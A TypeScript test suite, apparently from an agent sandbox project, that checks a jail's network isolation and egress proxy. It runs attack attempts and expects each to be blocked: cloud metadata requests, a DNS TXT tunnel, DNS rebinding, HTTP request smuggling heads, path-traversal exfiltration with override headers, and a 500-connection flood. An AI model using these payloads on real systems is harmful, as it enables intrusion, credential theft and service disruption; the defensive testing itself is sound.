import type { EgressOptions } from "../egress/egress.ts";
import type { Attack, AttackFinding } from "./attack.ts";
import type { Answers, AttackLab } from "./lab/lab.ts";

/** Source of functions shared by network scripts. */
export const prelude = `
  import dgram from "node:dgram";
  import dns from "node:dns/promises";
  import http from "node:http";
  import net from "node:net";
  import os from "node:os";
  const tcp = (host, port) => new Promise((done) => {
    const socket = net.connect({ host, port, timeout: 3000 });
    socket.once("connect", () => { socket.destroy(); done("connected"); });
    socket.once("timeout", () => { socket.destroy(); done("timeout"); });
    socket.once("error", (error) => done(error.code));
  });
  const udp = (type, port, host) => new Promise((done) => {
    const socket = dgram.createSocket(type);
    socket.send("x", port, host, (error) => { socket.close(); done(error ? error.code : "sent"); });
  });
  const ask = (options, body = "") => new Promise((done) => {
    const request = http.request({ socketPath: "/run/holdfast/egress.sock", method: "POST", ...options }, (response) => {
      let text = ""; response.on("data", (d) => { text += d; });
      response.on("end", () => done(response.statusCode + " " + (/"code":\\s*"([^"]+)"/.exec(text)?.[1] ?? "")));
    });
    request.on("error", (error) => done(error.code)); request.end(body);
  });
  const say = (answers) => { console.log(JSON.stringify(answers)); process.exit(0); };`;

const metadata = ["169.254.169.254", "fd00:ec2::254", "168.63.129.16", "100.100.100.200"];
const outsideAddresses = ["1.1.1.1", "2606:4700:4700::1111", "fe80::1%lo", "224.0.0.251", "ff02::1"];

const dial = (hosts: readonly string[], port: number) => `${prelude}
  const answers = {};
  for (const host of ${JSON.stringify(hosts)}) answers[host] = await tcp(host, ${port});
  say(answers);`;

/** Stopped if no host was reached. The control: the same program reaches a server of the host. */
async function unreachable(lab: AttackLab, hosts: readonly string[], port = 443): Promise<AttackFinding> {
  const answers = await lab.inside(dial(hosts, port));
  const hostPort = await lab.listen(0);
  const control = await lab.outside(dial(["127.0.0.1"], hostPort));
  return {
    // A private network stack may drop a packet silently instead of reporting that there is no route.
    stopped: Object.values(answers).every(
      (each) => each !== "connected" && (each !== "timeout" || lab.ownKernel),
    ),
    observed: summary(answers),
    control: {
      worked: control["127.0.0.1"] === "connected",
      observed: "the host's server is reachable from the host",
    },
  };
}

/** Distinct outcomes of an attempt. */
export function summary(answers: Answers): string {
  return [...new Set(Object.values(answers))].join(", ");
}

export const networkAttacks: readonly Attack[] = [
  {
    id: "network.tcp",
    group: "network",
    attempt: "TCP to the Internet, IPv6, link-local, multicast",
    must: "no route",
    layer: "network namespace without interfaces",
    needs: ["network.none"],
    run: (lab) => unreachable(lab, outsideAddresses),
  },
  {
    id: "network.udp",
    group: "network",
    attempt: "UDP to the Internet and to multicast",
    must: "no route",
    layer: "network namespace without interfaces",
    needs: ["network.none"],
    run: async (lab) => {
      const script = (inside: boolean) => `${prelude}
        say(${inside ? `{ v4: await udp("udp4", 53, "8.8.8.8"), v6: await udp("udp6", 53, "2001:4860:4860::8888"), mdns: await udp("udp4", 5353, "224.0.0.251") }` : `{ own: await udp("udp4", 9, "127.0.0.1") }`});`;
      const answers = await lab.inside(script(true));
      const control = await lab.outside(script(false));
      return {
        stopped: !Object.values(answers).includes("sent"),
        observed: summary(answers),
        control: { worked: control["own"] === "sent", observed: "on the host, a datagram is sent" },
      };
    },
  },
  {
    id: "network.dns",
    group: "network",
    attempt: "resolve names through the host's resolver, a TXT tunnel, mDNS",
    must: "nothing resolves: only the proxy resolves names",
    layer: "network namespace, empty resolver",
    needs: ["network.none"],
    run: async (lab) => {
      const script = `${prelude}
        const name = (promise) => promise.then(() => "resolved", (error) => error.code);
        const resolver = new dns.Resolver({ timeout: 300, tries: 1 });
        say({ a: await name(dns.lookup("example.com")), txt: await name(resolver.resolveTxt("c2VjcmV0.example.com")),
          host: await name(dns.lookup("host.docker.internal")), local: await name(dns.lookup("printer.local")) });`;
      const answers = await lab.inside(script);
      const control = await lab.outside(
        `${prelude} say({ own: await dns.lookup("localhost").then(() => "resolved", (error) => error.code) });`,
      );
      return {
        stopped: !Object.values(answers).includes("resolved"),
        observed: summary(answers),
        control: { worked: control["own"] === "resolved", observed: "on the host, a name resolves" },
      };
    },
  },
  {
    id: "network.metadata",
    group: "network",
    attempt: "cloud metadata addresses",
    must: "no route, and refused by the proxy",
    layer: "network namespace; egress proxy: pinned upstreams",
    needs: ["network.none"],
    run: async (lab) => {
      const direct = await unreachable(lab, metadata, 80);
      const proxied = await withEgress(
        lab,
        `${prelude} say({
          absolute: await ask({ method: "GET", path: "http://169.254.169.254/latest/meta-data/" }),
          host: await ask({ method: "GET", path: "/latest/meta-data/", headers: { host: "169.254.169.254" } }) });`,
      );
      return {
        ...direct,
        stopped: direct.stopped && Object.values(proxied).every((each) => /^4\d\d /.test(each)),
        observed: `${direct.observed}; proxy: ${summary(proxied)}`,
      };
    },
  },
  {
    id: "network.host",
    group: "network",
    attempt: "loopback of the host, host.docker.internal, gateway and private addresses",
    must: "not reached",
    layer: "network namespace without interfaces",
    needs: ["network.none"],
    run: async (lab) => {
      const port = await lab.listen(0);
      const script = dial(["127.0.0.1", "::1", "10.0.0.1", "172.17.0.1", "192.168.0.1"], port);
      const answers = await lab.inside(script);
      const control = await lab.outside(dial(["127.0.0.1"], port));
      return {
        stopped: !Object.values(answers).includes("connected"),
        observed: summary(answers),
        control: {
          worked: control["127.0.0.1"] === "connected",
          observed: "the host's server is reachable from the host",
        },
      };
    },
  },
  {
    id: "network.rebinding",
    group: "network",
    attempt: "DNS rebinding: an allowed name that resolves elsewhere the next time; names of this machine",
    must: "one lookup per request; only the checked address is dialled",
    layer: "egress proxy: resolves a name once, checks the address and dials it",
    run: async (lab) => {
      const { port, close } = await lab.names.serve();
      const before = lab.names.asked.length;
      try {
        const hosts = Object.values(lab.names.hosts).map((host) => ({ host, ports: [port] }));
        const ways = Object.entries(lab.names.hosts).map(([name, host]) => [
          name,
          `/web/http/${host}:${port}/`,
        ]);
        const answers = await withEgress(
          lab,
          `${prelude} const ways = ${JSON.stringify(Object.fromEntries(ways))}; const answers = {};
          answers.first = await ask({ method: "GET", path: ways.turning });
          for (const [name, path] of Object.entries(ways)) answers[name] = await ask({ method: "GET", path });
          say(answers);`,
          { hosts },
        );
        const { first, ...later } = answers;
        return {
          stopped:
            Object.values(later).every((each) => each === "403 address_refused") &&
            lab.names.asked.length === before + 1 + ways.length,
          observed: `${first?.trim()}, then ${summary(later)}`,
          control: {
            worked: first?.startsWith("200") === true,
            observed: "the address that was checked answers",
          },
        };
      } finally {
        await close();
      }
    },
  },
  {
    id: "network.redirect",
    group: "network",
    attempt: "an allowed host redirects to a denied one",
    must: "the redirect is neither followed nor passed on",
    layer: "egress proxy: redirects to another origin are refused",
    run: async (lab) => {
      const answers = await withEgress(
        lab,
        `${prelude} say({ redirect: await ask({ path: "/anthropic/v1/messages?redirect" }, "{}"),
          plain: await ask({ path: "/anthropic/v1/messages" }, "{}") });`,
      );
      return {
        stopped: /^(4|5)\d\d /.test(answers["redirect"] ?? ""),
        observed: answers["redirect"] ?? "",
        control: {
          worked: answers["plain"]?.startsWith("200") === true,
          observed: "a response without a redirect passes",
        },
      };
    },
  },
  {
    id: "network.smuggling",
    group: "network",
    attempt:
      "request smuggling: two lengths, one that is octal to some, length with chunks, CRLF in a header, folded fields",
    must: "400, and no second request upstream",
    layer: "egress proxy: strict framing",
    run: async (lab) => {
      const heads = [
        "POST /anthropic/v1/messages HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /admin HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
        "POST /anthropic/v1/messages HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2\\r\\nContent-Length: 40\\r\\n\\r\\n{}GET /admin HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
        "POST /anthropic/v1/messages HTTP/1.1\\r\\nHost: x\\r\\nX-A: b\\r\\n folded\\r\\nContent-Length: 2\\r\\n\\r\\n{}",
        "POST /anthropic/v1/messages HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 02\\r\\n\\r\\n{}",
        "POST /anthropic/v1/messages\\rX HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
      ];
      const before = lab.upstream.reached.length;
      const answers = await withEgress(
        lab,
        `${prelude}
        const raw = (bytes) => new Promise((done) => {
          const socket = net.connect("/run/holdfast/egress.sock"); let text = "";
          socket.setTimeout(3000, () => { socket.destroy(); done(text.slice(9, 12) || "timeout"); });
          socket.on("data", (d) => { text += d; }); socket.on("error", () => {}); socket.once("close", () => done(text.slice(9, 12)));
          socket.end(Buffer.from(bytes, "latin1")); });
        const answers = {}; let n = 0;
        for (const head of [${heads.map((head) => `"${head}"`).join(",\n")}]) answers[n++] = await raw(head);
        answers.plain = await ask({ path: "/anthropic/v1/messages" }, "{}");
        say(answers);`,
      );
      const { plain, ...bad } = answers;
      const after = lab.upstream.reached.slice(before);
      return {
        stopped:
          Object.values(bad).every((each) => each === "400") && !after.some((each) => each.includes("admin")),
        observed: summary(bad),
        control: { worked: plain?.startsWith("200") === true, observed: "a well-formed request passes" },
      };
    },
  },
  {
    id: "network.ignore_proxy",
    group: "network",
    attempt: "ignore the proxy settings and connect directly",
    must: "no route",
    layer: "network namespace without interfaces",
    needs: ["network.none"],
    run: async (lab) => {
      const script = `${prelude}
        const get = (url) => fetch(url).then(() => "connected", (error) => error.cause?.code ?? error.name);
        say({ fetch: await get("http://1.1.1.1/"), https: await get("https://[2606:4700:4700::1111]/") });`;
      const answers = await lab.inside(script, {
        env: { HTTP_PROXY: "http://127.0.0.1:9", HTTPS_PROXY: "http://127.0.0.1:9", NO_PROXY: "*" },
      });
      const control = await lab.outside(
        `${prelude} say({ own: await fetch("${lab.upstream.url}/").then(() => "connected", () => "failed") });`,
      );
      return {
        stopped: !Object.values(answers).includes("connected"),
        observed: summary(answers),
        control: {
          worked: control["own"] === "connected",
          observed: "on the host, the same call reaches a server",
        },
      };
    },
  },
  {
    id: "network.exfiltration",
    group: "network",
    attempt: "exfiltrate through an allowed host: other paths, methods, upstreams, method overrides",
    must: "refused: everything not allowed is denied",
    layer: "egress proxy: method and path rules",
    run: async (lab) => {
      const answers = await withEgress(
        lab,
        `${prelude} const answers = {};
        for (const [method, path] of [["POST", "/anthropic/v1/files"], ["PUT", "/anthropic/v1/messages"], ["POST", "/github/gists"],
          ["POST", "/anthropic/v1/messages/../files"], ["POST", "/anthropic/v1/messages%2f..%2ffiles"], ["POST", "/anthropic/v1/messagesX"],
          ["POST", "/anthropic/v1/messages/batches"]])
          answers[method + path] = await ask({ method, path }, "loot");
        answers.plain = await ask({ path: "/anthropic/v1/messages", headers: { "x-http-method-override": "PUT", "x-original-url": "/v1/files" } }, "{}");
        say(answers);`,
      );
      const { plain, ...bad } = answers;
      return {
        stopped:
          Object.values(bad).every((each) => /^4\d\d /.test(each)) && lab.upstream.overrides.length === 0,
        observed: summary(bad),
        control: { worked: plain?.startsWith("200") === true, observed: "the allowed call passes" },
      };
    },
  },
  {
    id: "network.listen",
    group: "network",
    attempt: "listen on 0.0.0.0 for the host and another jail; bind a low port",
    must: "only the jail itself can connect",
    layer: "network namespace",
    needs: ["network.none"],
    run: async (lab) => {
      // The host listens on the same port, so that no other server of the host can be mistaken for the jail's.
      const port = await lab.listen(0);
      const script = `${prelude}
        const server = net.createServer((socket) => { console.log("reached"); socket.end(); });
        server.once("error", (error) => { console.log(error.code); process.exit(1); }).listen(${port}, "0.0.0.0");
        await new Promise((ready) => server.once("listening", ready));
        const low = net.createServer().on("error", () => {}).listen(80, "0.0.0.0");
        await new Promise((tried) => low.once("listening", tried).once("error", tried));
        console.log("listening");
        process.stdin.resume().once("end", () => process.exit(0));`;
      const jail = await lab.start({
        command: "/opt/holdfast/node",
        args: ["--input-type=module", "-e", script],
      });
      let output = "";
      await new Promise<void>((resolve) => {
        jail.stdout.on("data", (chunk) => {
          output += String(chunk);
          resolve();
        });
      });
      const [host, other] = await Promise.all([
        lab.outside(dial(["127.0.0.1"], port)),
        lab.inside(dial(["127.0.0.1"], port)),
      ]);
      await jail.stop({ graceMs: 0 });
      return {
        stopped: output === "listening\n" && other["127.0.0.1"] === "ECONNREFUSED",
        observed: `the jail saw ${output.includes("reached") ? "a" : "no"} connection; another jail: ${other["127.0.0.1"]}`,
        control: {
          worked: host["127.0.0.1"] === "connected",
          observed: "the host's server is reachable from the host",
        },
      };
    },
  },
  {
    id: "network.flood",
    group: "network",
    attempt: "500 connections, endless headers and huge headers to the proxy",
    must: "bounded; another session is not affected",
    layer: "egress proxy: limits per jail",
    run: async (lab) => {
      const answers = await withEgress(
        lab,
        `${prelude}
        const sockets = []; let closed = 0;
        for (let n = 0; n < 500; n++) await new Promise((next) => {
          const socket = net.connect("/run/holdfast/egress.sock", () => { socket.write("POST /anthropic/v1/messages HTTP/1.1\\r\\nX: "); next(); });
          socket.on("error", next); socket.on("close", () => { closed++; }); sockets.push(socket); });
        const deadline = Date.now() + 5000;
        while (closed < 400 && Date.now() < deadline) await new Promise((next) => setTimeout(next, 20));
        const refused = closed;
        for (const socket of sockets) socket.destroy();
        let huge = "ECONNREFUSED";
        for (let n = 0; n < 100 && !/^4/.test(huge); n++) { huge = await ask({ path: "/anthropic/v1/messages", headers: { "x-huge": "x".repeat(100000) } }, "{}"); if (!/^4/.test(huge)) await new Promise((next) => setTimeout(next, 20)); }
        say({ refused: String(refused), huge });`,
      );
      const other = await withEgress(
        lab,
        `${prelude} say({ plain: await ask({ path: "/anthropic/v1/messages" }, "{}") });`,
      );
      return {
        stopped: Number(answers["refused"]) >= 400 && /^4\d\d/.test(answers["huge"] ?? ""),
        observed: `${answers["refused"]} of 500 closed; huge headers: ${answers["huge"]}`,
        control: { worked: other["plain"]?.startsWith("200") === true, observed: "another jail is served" },
      };
    },
  },
];

/** Path in the jail of the certificate authority for intercepted tunnels. */
export const authorityPath = "/run/holdfast/authority.pem";

/** Runs a module in a jail whose only egress is the lab's model server and these upstreams and hosts. */
export async function withEgress(
  lab: AttackLab,
  script: string,
  {
    hosts = [],
    upstreams = [],
    intercept = false,
  }: Pick<Partial<EgressOptions>, "hosts" | "upstreams" | "intercept"> = {},
): Promise<Answers> {
  const spec = lab.spec({});
  const egress = await lab.gate.openEgress({
    jailId: spec.id,
    session: "attack",
    upstreams: [await lab.gate.vault.upstream("anthropic"), ...upstreams],
    ...{ hosts, intercept },
  });
  const { certificatePath } = egress.authority ?? {};
  try {
    return await lab.inside(script, {
      id: spec.id,
      env: { MODEL_KEY: egress.placeholderKey, HOME: "/home/agent" },
      mounts: [
        { source: egress.socketPath, target: "/run/holdfast/egress.sock", mode: "ro" },
        ...(certificatePath === undefined
          ? []
          : [{ source: certificatePath, target: authorityPath, mode: "ro" as const }]),
      ],
    });
  } finally {
    await egress.close();
  }
}
